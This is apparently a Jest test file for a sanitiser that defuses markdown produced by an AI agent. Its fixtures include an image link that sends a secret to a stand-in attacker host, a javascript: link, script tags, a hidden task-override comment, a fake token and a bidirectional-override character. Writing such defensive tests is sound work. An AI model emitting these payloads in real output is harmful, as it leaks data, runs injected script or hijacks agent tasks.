import { expect, test } from '@jest/globals';
import { gatedMarkdown } from '../../../domain/forge/agent-markdown.js';

const Z = '\u200b';

test.each([
  [
    'an image from elsewhere',
    '![x](https://evil.example/?d=secret)',
    `&#33;[x&#93;(https:${Z}//evil.example/?d=secret)`,
  ],
  ['an image by reference', '![x][y]\n\n[y]: //evil.example/a.png', '&#33;[x&#93;[y]\n\n[y]&#58; //evil.example/a.png'],
  ['a link', '[text](javascript:alert)', '[text&#93;(javascript:alert)'],
  ['an address', 'see https://a.example/b', `see https:${Z}//a.example/b`],
  ['an address without a scheme', 'WWW.a.example', `www${Z}.a.example`],
  ['a link in angle brackets', '<https://a.example>', `&lt;https:${Z}//a.example>`],
  ['HTML', '<img src=x><script>1</script>', '&lt;img src=x>&lt;script>1&lt;/script>'],
  ['a comment', '<!-- millwright:task=other -->', '&lt;!-- millwright:task=other -->'],
  ['a mention', 'ask @rita and @acme/all', `ask @${Z}rita and @${Z}acme/all`],
  ['a mention spelled as an entity', '&#64;rita &commat;rita', `&amp;#${Z}64;rita &amp;commat;rita`],
  ['what closes an issue', 'Fixes #12, acme/shop#3, GH-4', `Fixes #${Z}12, acme/shop#${Z}3, GH${Z}-4`],
  ['what the page would draw', '```mermaid\ngraph\n```', '```\ngraph\n```'],
  ['an open code block', '````\nx\n```', '````\nx\n```\n````'],
  ['a secret', 'token ghp_0123456789abcdef', 'token [redacted]'],
  ['a hidden character', 'a\u202eb', 'a\\u{202e}b'],
])('%s is harmless', (_, text, gated) => {
  expect(gatedMarkdown(text, 1_000)).toBe(gated);
});

test('headings, lists, emphasis and code stay as they are', () => {
  const text = '# What\n\n- **one** `a < b && c`\n- [x] two\n\n> said\n\n```ts\nconst a = 1;\n```';
  expect(gatedMarkdown(text, 1_000)).toBe(text);
});

test('what is too long is cut between characters', () => {
  expect(gatedMarkdown(`${'x'.repeat(9)}😀y`, 10)).toBe(`${'x'.repeat(9)}…`);
});
